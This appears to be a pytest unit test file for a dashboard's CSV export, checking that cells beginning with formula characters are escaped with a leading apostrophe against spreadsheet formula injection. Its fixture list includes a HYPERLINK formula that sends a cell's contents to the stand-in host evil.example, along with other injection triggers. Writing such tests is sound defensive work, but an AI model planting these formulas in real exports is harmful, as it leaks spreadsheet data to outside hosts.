"""The tables behind the pages and their CSV exports."""

from __future__ import annotations

import csv
import io

import pytest

from lapor_dashboard.tables import Cell, Column, Table

pytestmark = pytest.mark.unit

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 812 (SMS)", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _exported(*rows: list[Cell]) -> list[list[str]]:
    table = Table("overdue", "Lewat tenggat", [Column("Judul"), Column("Jumlah", numeric=True)], rows=list(rows))
    return list(csv.reader(io.StringIO(table.csv())))


def test_text_a_spreadsheet_would_evaluate_is_exported_as_text_with_a_leading_apostrophe():
    exported = _exported(*[[Cell(text), Cell("1", 1)] for text in FORMULAS])

    assert [row[0] for row in exported[1:]] == ["'" + text for text in FORMULAS]


def test_ordinary_text_and_numbers_including_negative_ones_are_exported_as_they_are():
    exported = _exported([Cell("Jalan rusak di Jl. Teuku Umar"), Cell("-3", -3)], [Cell("—"), Cell("0", 0.5)])

    assert exported[1:] == [["Jalan rusak di Jl. Teuku Umar", "-3"], ["—", "0.5"]]


def test_an_empty_cell_is_exported_empty():
    assert _exported([Cell("", None), Cell("2", 2)])[1] == ["", "2"]
